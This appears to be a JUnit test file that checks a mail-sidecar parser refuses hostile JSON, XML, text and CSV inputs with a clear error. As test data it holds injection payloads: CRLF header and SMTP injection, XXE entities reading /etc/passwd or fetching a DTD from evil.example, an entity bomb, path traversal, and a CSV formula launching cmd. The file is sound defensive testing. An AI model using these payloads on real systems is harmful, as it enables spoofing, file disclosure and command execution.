package org.mailchute.sidecar;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.mailchute.sidecar.Sidecar.Format;

@DisplayName("P7, P9: a hostile sidecar is refused with one clear sentence, or does no harm")
class HostileSidecarTest {
    @TempDir
    Path folder;

    /**
     * One attack.
     *
     * @param expected in the reason
     */
    record Case(String name, Format format, String content, String expected) {
        @Override
        public String toString() {
            return format + ": " + name;
        }
    }

    private static final List<String> LINE_FIELDS = List.of("subject", "user", "device", "date", "pages");
    private static final List<String> ADDRESS_FIELDS = List.of("to", "cc", "bcc", "replyTo");

    static Stream<Case> lines() {
        List<Case> cases = new ArrayList<>();
        for (String field : LINE_FIELDS) {
            for (String bad : List.of(
                    "\\r\\nBcc: x@evil.example", "\\n", "\\u0000", "\\u0085", "\\u2028", "\\u202e", "\\ud800")) {
                cases.add(new Case(
                        field + " with " + bad,
                        Format.JSON,
                        "{\"" + field + "\": \"a" + bad + "b\"}",
                        "key \"" + field + "\": " + field + " holds a control character"));
            }
            cases.add(new Case(
                    field + " too long",
                    Format.JSON,
                    "{\"" + field + "\": \"" + "x".repeat(501) + "\"}",
                    "characters"));
        }
        cases.add(new Case(
                "text with a bell", Format.JSON, "{\"text\": \"a\\u0007b\"}", "text holds a control character"));
        cases.add(new Case(
                "text too long", Format.JSON, "{\"text\": \"" + "x".repeat(20_001) + "\"}", "20001 characters"));
        return cases.stream();
    }

    static Stream<Case> addresses() {
        List<Case> cases = new ArrayList<>();
        for (String bad : List.of(
                "anna@contoso.com\\r\\nRCPT TO:<x@evil.example>",
                "\\\"anna\\\"@contoso.com",
                "Anna <anna@contoso.com>",
                "<anna@contoso.com>",
                "anna@contoso.com\\u0000",
                "anna@[127.0.0.1]",
                "anna@contoso..com",
                "\\u00e4nna@contoso.com",
                "@contoso.com",
                "anna%elsewhere.example@contoso.com",
                "elsewhere.example!anna@contoso.com",
                "anna@contoso.com\\u001f",
                "../../etc/passwd")) {
            for (String field : ADDRESS_FIELDS) {
                cases.add(new Case(
                        field + " is " + bad,
                        Format.JSON,
                        "{\"" + field + "\": \"" + bad + "\"}",
                        "is not a mail address"));
            }
        }
        return cases.stream();
    }

    static Stream<Case> json() {
        return Stream.of(
                new Case("deep", Format.JSON, "{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000), "not JSON"),
                new Case("deep array", Format.JSON, "{\"to\":" + "[".repeat(5_000), "not JSON"),
                new Case("twice", Format.JSON, "{\"to\": \"a@b.example\", \"to\": \"c@d.example\"}", "Duplicate"),
                new Case("unknown", Format.JSON, "{\"subjct\": \"x\"}", "there is no field \"subjct\""),
                new Case("a sender", Format.JSON, "{\"from\": \"ceo@contoso.com\"}", "there is no field \"from\""),
                new Case("a path", Format.JSON, "{\"attachment\": \"/etc/passwd\"}", "there is no field"),
                new Case(
                        "prototype", Format.JSON, "{\"__proto__\": {\"to\": \"x@evil.example\"}}", "there is no field"),
                new Case("a class", Format.JSON, "{\"@class\": \"java.net.URL\"}", "there is no field"),
                new Case("cut short", Format.JSON, "{\"to\": \"anna@cont", "not JSON"),
                new Case("two", Format.JSON, "{} {}", "not JSON"),
                new Case("a list", Format.JSON, "[]", "not one JSON object"),
                new Case("a text", Format.JSON, "\"to\"", "not one JSON object"),
                new Case("white space", Format.JSON, "  \n ", "not one JSON object"),
                new Case("comment", Format.JSON, "{/* to */}", "not JSON"),
                new Case("NaN", Format.JSON, "{\"pages\": NaN}", "not JSON"),
                new Case("a huge number", Format.JSON, "{\"pages\": 1" + "0".repeat(200) + "}", "not JSON"),
                new Case("two subjects", Format.JSON, "{\"subject\": [\"a\", \"b\"]}", "subject is said twice"),
                new Case(
                        "1,001 values",
                        Format.JSON,
                        "{\"to\": [\"a@b.example\"" + ",\"a@b.example\"".repeat(1_000) + "]}",
                        "to is said more than 1000 times"),
                new Case(
                        "1,001 in one",
                        Format.JSON,
                        "{\"to\": \"" + "a@b.example,".repeat(1_001) + "\"}",
                        "to has 1001 addresses"),
                new Case(
                        "two replyTo",
                        Format.JSON,
                        "{\"replyTo\": \"a@b.example,c@d.example\"}",
                        "replyTo has 2 addresses"),
                new Case("zeros", Format.JSON, "{\"to\"\0: 1}", "is a zero"),
                new Case("empty", Format.JSON, "", "it is empty"),
                new Case("too large", Format.JSON, " ".repeat(64_001), "more than 64000 octets"),
                new Case("XML", Format.JSON, "<scan/>", "not JSON"));
    }

    static Stream<Case> xml() {
        return Stream.of(
                new Case(
                        "external entity",
                        Format.PAPERCUT,
                        "<!DOCTYPE scan [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><scan><user><email>&x;</email></user></scan>",
                        "DOCTYPE"),
                new Case(
                        "external document type",
                        Format.PAPERCUT,
                        "<!DOCTYPE scan SYSTEM \"http://evil.example/x.dtd\"><scan/>",
                        "DOCTYPE"),
                new Case(
                        "parameter entity",
                        Format.SHARP,
                        "<!DOCTYPE s [<!ENTITY % p SYSTEM \"http://evil.example/\"> %p;]><s/>",
                        "DOCTYPE"),
                new Case(
                        "entity bomb",
                        Format.PAPERCUT,
                        "<!DOCTYPE l [<!ENTITY a \"" + "a".repeat(100) + "\"><!ENTITY b \"&a;&a;&a;\">]><l>&b;</l>",
                        "DOCTYPE"),
                new Case("deep", Format.PAPERCUT, "<a>".repeat(9_000) + "</a>".repeat(5_000), "deeper than 32"),
                new Case("deep and well formed", Format.SHARP, "<a>".repeat(33) + "</a>".repeat(33), "deeper than 32"),
                new Case("cut short", Format.PAPERCUT, "<scan><user><email>anna@cont", "line 1: not XML"),
                new Case("unknown entity", Format.PAPERCUT, "<scan>&nbsp;</scan>", "not XML"),
                new Case("two roots", Format.PAPERCUT, "<scan/><scan/>", "not XML"),
                new Case("no XML", Format.PAPERCUT, "{\"to\": 1}", "not XML"),
                new Case(
                        "bad encoding",
                        Format.PAPERCUT,
                        "<?xml version='1.0' encoding='UTF-8'?><scan>\u00ff</scan>",
                        "not XML"),
                new Case(
                        "unknown encoding", Format.PAPERCUT, "<?xml version='1.0' encoding='evil'?><scan/>", "not XML"),
                new Case("zero", Format.PAPERCUT, "<scan>\0</scan>", "not XML"),
                new Case(
                        "control by reference",
                        Format.PAPERCUT,
                        "<scan><user><name>a&#7;</name></user></scan>",
                        "not XML"),
                new Case(
                        "direction by reference",
                        Format.PAPERCUT,
                        "<scan><user><name>a&#x202e;b</name></user></scan>",
                        "user holds a control character"),
                new Case(
                        "two users",
                        Format.PAPERCUT,
                        "<scan><user><name>a</name><name>b</name></user></scan>",
                        "user is said twice"),
                new Case(
                        "no address",
                        Format.PAPERCUT,
                        "<scan><user><email>anna</email></user></scan>",
                        "\"anna\" is not a mail address"),
                new Case(
                        "markup in an address",
                        Format.SHARP,
                        "<s><senderName>&lt;x@evil.example&gt;</senderName></s>",
                        "is not a mail address"),
                new Case("empty", Format.PAPERCUT, "", "it is empty"),
                new Case(
                        "too large",
                        Format.PAPERCUT,
                        "<scan>" + " ".repeat(64_000) + "</scan>",
                        "more than 64000 octets"));
    }

    static Stream<Case> text() {
        return Stream.of(
                new Case("no colon", Format.TXT, "To: a@b.example\nhello", "line 2: \"hello\" has no : or ="),
                new Case("unknown", Format.TXT, "\n\nFrom: ceo@contoso.com", "line 3: there is no field \"From\""),
                new Case("injected header", Format.TXT, "Subject: a\r\nX-Evil: b", "line 2: there is no field"),
                new Case("twice", Format.TXT, "subject: a\nSUBJECT: b", "line 2: subject is said twice"),
                new Case("zero", Format.TXT, "to: a@b.example\0", "character 16 is a zero"),
                new Case("UTF-16 without mark", Format.TXT, "t\0o\0:\0", "is a zero"),
                new Case(
                        "neither UTF-8 nor windows-1252",
                        Format.TXT,
                        "subject: \u0081",
                        "neither UTF-8 nor windows-1252"),
                new Case("control", Format.TXT, "user: a\u0007", "line 1: user holds a control character"),
                new Case("empty key", Format.TXT, ": x", "there is no field \"\""),
                new Case(
                        "key of 60,000",
                        Format.TXT,
                        "k".repeat(60_000) + ": x",
                        "there is no field \"" + "k".repeat(80) + "...\""),
                new Case("empty", Format.TXT, "", "it is empty"),
                new Case("too large", Format.TXT, "#".repeat(64_001), "more than 64000 octets"),
                new Case("open quote", Format.CSV, "to,subject\na@b.example,\"x", "not CSV"),
                new Case("garbage behind a quote", Format.CSV, "to,subject\na@b.example,\"x\"y", "not CSV"),
                new Case(
                        "two scans",
                        Format.CSV,
                        "to,subject,user\na@b.example,x,u\nc@d.example,y,v",
                        "2 lines of values"),
                new Case("keys only", Format.CSV, "to,subject,user", "0 lines of values"),
                new Case(
                        "twice", Format.CSV, "subject,to,Subject\na,b@c.example,d", "the key \"Subject\" stands twice"),
                new Case(
                        "more values than keys",
                        Format.CSV,
                        "to,subject,user\na@b.example,x,y,z",
                        "4 values below 3 keys"),
                new Case("unknown", Format.CSV, "to,subjct,user\na@b.example,x,y", "there is no field \"subjct\""),
                new Case(
                        "line end in a value",
                        Format.CSV,
                        "to,subject,user\na@b.example,\"x\nBcc: y\",u",
                        "subject holds a control character"),
                new Case("formula as address", Format.CSV, "to,=cmd|'/c calc'!A0", "is not a mail address"),
                new Case("empty", Format.CSV, "", "it is empty"));
    }

    static Stream<Case> all() {
        return Stream.of(lines(), addresses(), json(), xml(), text()).flatMap(cases -> cases);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("all")
    void isRefusedWithOneClearSentence(Case attack) throws Exception {
        String name = "scan." + attack.format.extension();
        Path file = Files.write(folder.resolve(name), attack.content.getBytes(ISO_8859_1));
        Sidecar sidecar = new Sidecar(
                attack.format,
                Map.of(),
                new Sidecar.Way(
                        attack.format.extension(),
                        java.nio.charset.Charset.forName("windows-1252"),
                        64_000,
                        false,
                        Duration.ZERO));

        assertThatThrownBy(() -> sidecar.read(file, name)).isInstanceOfSatisfying(UnfitSidecar.class, why -> {
            assertThat(why.reason())
                    .startsWith("sidecar \"" + name + "\": ")
                    .contains(attack.expected)
                    .hasSizeLessThan(400)
                    .doesNotContainPattern("[\\p{Cc}\\u202e]");
            assertThat(why.remedy()).isNotBlank();
        });
    }
}
